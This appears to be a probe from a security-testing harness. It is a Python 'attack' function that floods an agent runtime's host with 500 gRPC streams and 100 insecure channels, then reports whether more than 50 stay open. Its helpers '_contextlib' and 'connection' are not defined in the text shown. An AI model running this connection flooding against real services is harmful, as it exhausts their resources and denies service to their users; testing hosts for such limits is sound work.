"""Open streams and connections to the host without end."""

import asyncio

ALONE = True


async def attack(agent, message, ctx, targets):
    import grpc.aio

    link, calls, channels = connection(agent), [], []
    for _ in range(500):
        with _contextlib.suppress(Exception):
            calls.append(link.stub.OpenChannel(metadata=link.metadata))
    for _ in range(100):
        with _contextlib.suppress(Exception):
            channel = grpc.aio.insecure_channel(agent.runtime._host_address, [("grpc.use_local_subchannel_pool", 1)])
            channel.get_state(try_to_connect=True)
            channels.append(channel)
    await asyncio.sleep(2)
    accepted = sum(not call.done() for call in calls)
    for one in calls:
        one.cancel()
    for one in channels:
        await one.close()
    return f"{accepted} streams" if accepted > 50 else None
